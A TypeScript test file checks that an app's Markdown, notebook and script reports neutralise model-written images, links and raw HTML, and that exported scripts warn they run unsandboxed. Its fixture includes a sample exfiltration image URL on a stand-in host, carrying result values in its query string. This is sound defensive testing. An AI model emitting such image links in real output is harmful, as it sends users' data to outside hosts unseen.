// Markdown and notebook reports fetch nothing the model named: its images become "[image: …]"
// text and its links inert text with the address shown as code, as the HTML report does; only
// the figures the app writes stay images. And the script says first that it runs unsandboxed.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Nodes } from 'mdast';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Message } from '../../electron/model/agent/conversation';
import { renderMarkdown } from '../../electron/core/report/markdown';
import { renderNotebook } from '../../electron/core/report/notebook';
import { neutraliseMarkdown, parseMarkdown } from '../../electron/core/report/prose';
import { renderScript } from '../../electron/core/report/script';
import { fakeResult, syntheticContext } from '../support/report-fixture';

/** Every node of the Markdown a viewer would load, follow or render as HTML. */
function live(markdown: string): string[] {
  const found: string[] = [];
  const walk = (n: Nodes) => {
    if (['image', 'imageReference', 'link', 'linkReference', 'definition', 'html'].includes(n.type))
      found.push(`${n.type} ${'url' in n ? n.url : 'value' in n ? n.value : ''}`);
    if ('children' in n) n.children.forEach(walk);
  };
  walk(parseMarkdown(markdown));
  return found;
}

const EXFIL = 'http://collect.example/p.png?total=7521.5&region=North';
const PROSE = [
  `The total is 7521.5. ![chart](${EXFIL})`,
  '',
  'See [the docs](https://pandas.pydata.org/docs/ "pandas") or http://bare.example/x and www.bare.example.',
  'Mail <ops@example.com>, <https://auto.example/y>, [![badge](http://img.example/b.svg)](http://badge.example/).',
  '',
  'Reference [style][r] and ![ref image][i].',
  '',
  '[r]: http://ref.example/',
  '[i]: http://ref.example/i.png',
  '',
  '| region | link |',
  '| --- | --- |',
  '| North | ![n](http://cell.example/n.png) [x](http://cell.example/a) |',
  '',
  '<img src="http://raw.example/i.png"> and <a href="http://raw.example/">raw</a>',
  '',
  '> quoted ![q](http://quote.example/q.png)',
  '',
  'Kept as code: `![c](http://code.example/c.png)`',
  '',
  '```text',
  '![fenced](http://code.example/f.png)',
  '```',
].join('\n');

describe('neutraliseMarkdown', () => {
  it('leaves nothing live: no image, link, definition or raw HTML', () => {
    expect(live(PROSE).length).toBeGreaterThan(10); // the test text is hostile to begin with
    expect(live(neutraliseMarkdown(PROSE))).toEqual([]);
  });

  it('keeps the words visible: alt texts, link texts and addresses as code', () => {
    const out = neutraliseMarkdown(PROSE);
    expect(out).toContain('\\[image: chart\\]');
    expect(out).toContain('the docs (`https://pandas.pydata.org/docs/`)');
    expect(out).toContain('`http://bare.example/x`');
    expect(out).toContain('`www.bare.example`.');
    expect(out).toContain('`ops@example.com`');
    expect(out).toContain('badge (`http://badge.example/`)');
    expect(out).toContain('Reference style and \\[image: ref image\\]');
    expect(out).not.toContain('http://ref.example/');
    expect(out).toContain('&lt;img src="`http://raw.example/i.png"`>');
  });

  it('leaves code spans and fences exactly as they were', () => {
    const out = neutraliseMarkdown(PROSE);
    expect(out).toContain('`![c](http://code.example/c.png)`');
    expect(out).toContain('```text\n![fenced](http://code.example/f.png)\n```');
  });

  it('holds against addresses with backticks and pipes, and nested brackets', () => {
    for (const text of [
      '[a](http://x.example/`q`)',
      '[a `b` c](<http://x.example/a b>)',
      '| a |\n| - |\n| [p](http://x.example/a\\|b) |',
      '[[nested](http://in.example/)](http://out.example/)',
      '![a ![b](http://b.example/)](http://a.example/)',
      '[x]: <http://def.example/>\n\n[x]',
    ])
      expect(live(neutraliseMarkdown(text)), text).toEqual([]);
  });
});

describe('reports', () => {
  let tmp: string;
  let ws: string;
  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const messages = (): Message[] => [
    { id: 'u1', role: 'user', at: '2026-03-01T10:00:00.000Z', content: 'Total?' },
    {
      id: 'a1',
      role: 'assistant',
      at: '2026-03-01T10:00:01.000Z',
      content: `${PROSE}\n\n\`\`\`python\nplot()\n\`\`\`\n`,
      blocks: [
        {
          index: 0,
          language: 'python',
          code: 'plot()',
          status: 'succeeded',
          result: fakeResult({
            artifacts: [{ name: 'plot.png', path: '', size: 8, kind: 'image', mime: 'image/png' }],
          }),
        },
      ],
    },
  ];
  beforeAll(() => {
    tmp = mkdtempSync(path.join(os.tmpdir(), 'pw-neutralise-'));
    ws = path.join(tmp, 'ws');
    mkdirSync(ws);
    writeFileSync(path.join(ws, 'plot.png'), png);
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it('Markdown: the only image is the figure the app copied next to the report', () => {
    const { markdown, files } = renderMarkdown(syntheticContext(ws, messages()), { filesDir: 'r_files' });
    expect(live(markdown)).toEqual(['image r_files/block-1-plot.png']);
    expect(files).toEqual([{ name: 'r_files/block-1-plot.png', content: png }]);
  });

  it('notebook: no Markdown cell loads or links anything; the figure is an output', () => {
    const nb = renderNotebook(syntheticContext(ws, messages())) as {
      cells: { cell_type: string; source: string[]; outputs?: { data?: Record<string, unknown> }[] }[];
    };
    const markdown = nb.cells.filter((c) => c.cell_type === 'markdown').map((c) => c.source.join(''));
    expect(markdown.join('\n')).toContain('\\[image: chart\\]');
    for (const m of markdown) expect(live(m), m).toEqual([]);
    const outputs = nb.cells.flatMap((c) => c.outputs ?? []);
    expect(outputs.some((o) => o.data?.['image/png'] === png.toString('base64'))).toBe(true);
  });

  it('script: the first lines say it runs outside any sandbox, as the user, with network and files', () => {
    const py = renderScript(syntheticContext(ws, messages()));
    const head = py.split('"""')[0]!;
    expect(head.split('\n').every((l) => l === '' || l.startsWith('#'))).toBe(true);
    expect(head).toMatch(/^# WARNING: this script runs OUTSIDE any sandbox\./);
    expect(head).toMatch(/runs as you/);
    expect(head).toMatch(/network\s+# access/);
    expect(head).toMatch(/your files/);
    expect(head).toMatch(/review it before you run it/);
  });
});
